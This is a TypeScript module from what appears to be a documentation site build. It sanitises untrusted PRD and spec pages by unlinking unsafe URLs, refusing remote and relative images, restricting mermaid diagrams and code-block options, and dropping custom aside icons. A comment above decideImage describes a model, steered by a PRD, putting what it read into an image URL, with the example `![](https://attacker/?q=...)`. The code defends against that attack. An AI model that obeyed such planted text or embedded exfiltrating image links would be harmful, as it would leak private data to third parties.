import { suggestId } from '../prds/field-problems.ts';
import type { Problem } from '../problems.ts';
import { isPlainLanguage, sanitizeCodeOptions } from './code-options.ts';
import type { BrokenDiagram } from './diagram-check.ts';
import { sanitizeDiagram } from './diagram-safety.ts';
import { isSafeUrl, resolveSpecLink } from './links.ts';

/**
 * What our markdown plugins do to one document, whatever the processor. Built by the plugin
 * from the shared state, so that it always sees the current PRD ids and untrusted files.
 */
export interface MarkdownPolicy {
	/** PRD and spec pages come from authors' pull requests and from a model: their HTML is escaped and unsafe links dropped. */
	isUntrusted(filePath: string | undefined): boolean;
	/** Whether an untrusted page may show images from other sites (the `remoteImages` option, on PRD pages). */
	allowsRemoteImages(filePath: string | undefined): boolean;
	knownIds(): ReadonlySet<string>;
	base: string;
	/** Records a `prd:`/`spec:` link to an id that does not exist, in the file being rendered: the build fails on it. */
	reportProblem(filePath: string | undefined, problem: Problem): void;
	/** Records something of an untrusted page that was removed or not rendered, in the file being rendered: the build says so. */
	reportWarning(filePath: string | undefined, problem: Problem): void;
	/** A diagram of the page being rendered that mermaid cannot parse (found before rendering, see `findBrokenDiagrams`). */
	brokenDiagram(filePath: string | undefined, source: string): BrokenDiagram | undefined;
	/** Path of a file relative to the project root, for messages. */
	relativePath(filePath: string | undefined): string;
}

export type UrlDecision = { action: 'keep' } | { action: 'replace'; url: string } | { action: 'unlink' };

/** What to do with a link or definition URL in a document. */
export function decideUrl(url: string, filePath: string | undefined, policy: MarkdownPolicy): UrlDecision {
	const link = resolveSpecLink(url, policy.knownIds(), policy.base);
	if (link.kind === 'resolved') return { action: 'replace', url: link.href };
	if (link.kind === 'unknown') {
		const kind = link.scheme === 'prd' ? 'PRD' : 'spec';
		policy.reportProblem(filePath, {
			file: policy.relativePath(filePath),
			field: `link ${url}`,
			message: `points at the ${kind} "${link.id}", which does not exist.`,
			hint: `Use the id of a PRD (its file name without \`.md\`): \`${link.scheme}:<id>\`${suggestId(link.id, policy.knownIds())}.`,
		});
		return { action: 'keep' };
	}
	if (policy.isUntrusted(filePath) && !isSafeUrl(url)) return { action: 'unlink' };
	return { action: 'keep' };
}

/** An image of an untrusted page: shown, turned into a link to it, or reduced to its text. */
export type ImageDecision = { action: 'keep' } | { action: 'link' } | { action: 'text' };

/**
 * Images of untrusted pages load only from this site. An image on another host would be fetched
 * by every reader's browser: that tells a third party who reads the site, and a model steered by
 * a PRD can put what it read into the URL (`![](https://attacker/?q=...)`). So a remote image
 * becomes a link to it (unless `remoteImages` allows it on PRD pages), and a relative image (which
 * Astro would try to load from the build machine) becomes text. Root-relative images (`/x.png`,
 * from `public/`) stay.
 */
export function decideImage(url: string, filePath: string | undefined, policy: MarkdownPolicy): ImageDecision {
	if (!policy.isUntrusted(filePath)) return { action: 'keep' };
	const file = policy.relativePath(filePath);
	if (!isSafeUrl(url)) return { action: 'text' };
	const trimmed = url.trim();
	const remote = /^[a-z][a-z0-9+.-]*:/i.test(trimmed) || trimmed.startsWith('//');
	if (remote) {
		if (policy.allowsRemoteImages(filePath)) return { action: 'keep' };
		policy.reportWarning(filePath, {
			file,
			field: `image ${shorten(trimmed)}`,
			message: 'is on another site, so it is published as a link, not loaded.',
			hint: 'Copy the image into `public/` and use `/<path>`, or for PRDs allow remote images with the `remoteImages` option.',
		});
		return { action: 'link' };
	}
	if (trimmed.startsWith('/')) return { action: 'keep' };
	policy.reportWarning(filePath, {
		file,
		field: `image ${shorten(trimmed)}`,
		message: 'is a relative path, which is not published: only images of this site (`/<path>` from `public/`) are shown.',
		hint: 'Copy the image into `public/` and refer to it as `/<path>`.',
	});
	return { action: 'text' };
}

/** What becomes of a fenced code block of an untrusted page. */
export type CodeDecision =
	| { action: 'keep' }
	| { action: 'update'; lang?: string | null; meta?: string | null; value?: string }
	/** A diagram that is not drawn: a notice, then its source as plain text. */
	| { action: 'refuse'; notice: string; value: string };

/**
 * Code blocks of untrusted pages: diagrams get the site's pinned configuration or are shown as
 * source (see `sanitizeDiagram`); other blocks keep only bounded Expressive Code options (see
 * `sanitizeCodeOptions`) and a plain language name.
 */
export function decideCode(
	node: { lang?: string | null | undefined; meta?: string | null | undefined; value: string },
	filePath: string | undefined,
	policy: MarkdownPolicy,
	diagramNumber: () => number,
): CodeDecision {
	if (!policy.isUntrusted(filePath)) return { action: 'keep' };
	const file = policy.relativePath(filePath);
	if (node.lang === 'mermaid') {
		const number = diagramNumber();
		const verdict = sanitizeDiagram(node.value);
		if (verdict.action === 'refuse') {
			policy.reportWarning(filePath, {
				file,
				field: `diagram ${number}`,
				message: `is shown as its source, not drawn: ${verdict.reason}.`,
				hint: DIAGRAM_HINT,
			});
			return { action: 'refuse', notice: `This diagram is shown as its source, not drawn: ${verdict.reason}.`, value: node.value };
		}
		// Reported with its file and line when it was found; drawn, it would be mermaid's error box.
		const broken = policy.brokenDiagram(filePath, verdict.source);
		if (broken) return { action: 'refuse', notice: brokenDiagramNotice(broken), value: node.value };
		if (verdict.removed.length > 0) {
			policy.reportWarning(filePath, {
				file,
				field: `diagram ${number}`,
				message: `is drawn without ${verdict.removed.join(' and ')}: the site's diagram configuration applies.`,
				hint: DIAGRAM_HINT,
			});
		}
		return verdict.source === node.value ? { action: 'keep' } : { action: 'update', value: verdict.source };
	}
	const update: { lang?: string | null; meta?: string | null } = {};
	if (node.lang && !isPlainLanguage(node.lang)) {
		policy.reportWarning(filePath, {
			file,
			field: `code block ${shorten(node.lang)}`,
			message: 'has a language name that is not a plain name, so it is shown as plain text.',
			hint: 'Use a language name such as `ts`, `sh` or `json`.',
		});
		update.lang = 'text';
	}
	if (node.meta) {
		const { meta, removed } = sanitizeCodeOptions(node.meta, countLines(node.value));
		if (removed.length > 0) {
			policy.reportWarning(filePath, {
				file,
				field: `code block${node.lang ? ` ${shorten(node.lang)}` : ''}`,
				message: `options ${removed.join(', ')} were removed.`,
				hint: 'PRDs and specs may set `title`, `frame`, `wrap`, line ranges within the block and text markers in quotes; regular-expression markers are not allowed.',
			});
			update.meta = meta || null;
		}
	}
	return Object.keys(update).length > 0 ? { action: 'update', ...update } : { action: 'keep' };
}

/** What a reader sees above a diagram that mermaid cannot parse. */
function brokenDiagramNotice(broken: BrokenDiagram): string {
	const where = broken.errorLine === undefined ? '' : ` (line ${broken.errorLine - broken.line} of it)`;
	return `Mermaid cannot read this diagram${where}, so it is shown as its source.`;
}

const DIAGRAM_HINT =
	'Diagrams of PRDs and specs use the site’s mermaid configuration and may not load anything: remove directives, `config`, image shapes, icons and `url(...)` styles.';

/**
 * Attributes of an aside (`:::note{icon="..."}`): Starlight fails the build on an icon name it
 * does not know, so untrusted pages keep the default icon. Returns the attributes to keep, or
 * undefined when nothing changes.
 */
export function decideDirectiveAttributes(
	name: string,
	attributes: Record<string, string | null | undefined> | null | undefined,
	filePath: string | undefined,
	policy: MarkdownPolicy,
): Record<string, string | null | undefined> | undefined {
	if (!attributes || !('icon' in attributes) || !policy.isUntrusted(filePath)) return undefined;
	policy.reportWarning(filePath, {
		file: policy.relativePath(filePath),
		field: `:::${shorten(name)}`,
		message: 'has a custom `icon`, which is not used on PRD and spec pages.',
		hint: 'Remove the `{icon="..."}` attribute: the aside keeps its default icon.',
	});
	const { icon: _icon, ...rest } = attributes;
	return rest;
}

const BLOCK_PARENTS = new Set(['root', 'blockquote', 'listItem', 'footnoteDefinition', 'containerDirective']);

/** The node that shows raw HTML as text: a paragraph where a block stood, text inside a paragraph. */
export function htmlAsText(value: string, parentType: string | undefined) {
	const text = { type: 'text' as const, value };
	return parentType !== undefined && BLOCK_PARENTS.has(parentType) ? { type: 'paragraph' as const, children: [text] } : text;
}

/** The nodes that stand for a diagram that is not drawn: a notice, then its source. */
export function refusedDiagramNodes(notice: string, value: string) {
	return [
		{ type: 'paragraph' as const, children: [{ type: 'emphasis' as const, children: [{ type: 'text' as const, value: notice }] }] },
		{ type: 'code' as const, lang: 'text', meta: null, value },
	];
}

function countLines(value: string): number {
	let lines = 1;
	for (let index = value.indexOf('\n'); index !== -1; index = value.indexOf('\n', index + 1)) lines++;
	return lines;
}

function shorten(text: string): string {
	return text.length > 60 ? `${text.slice(0, 59)}…` : text;
}
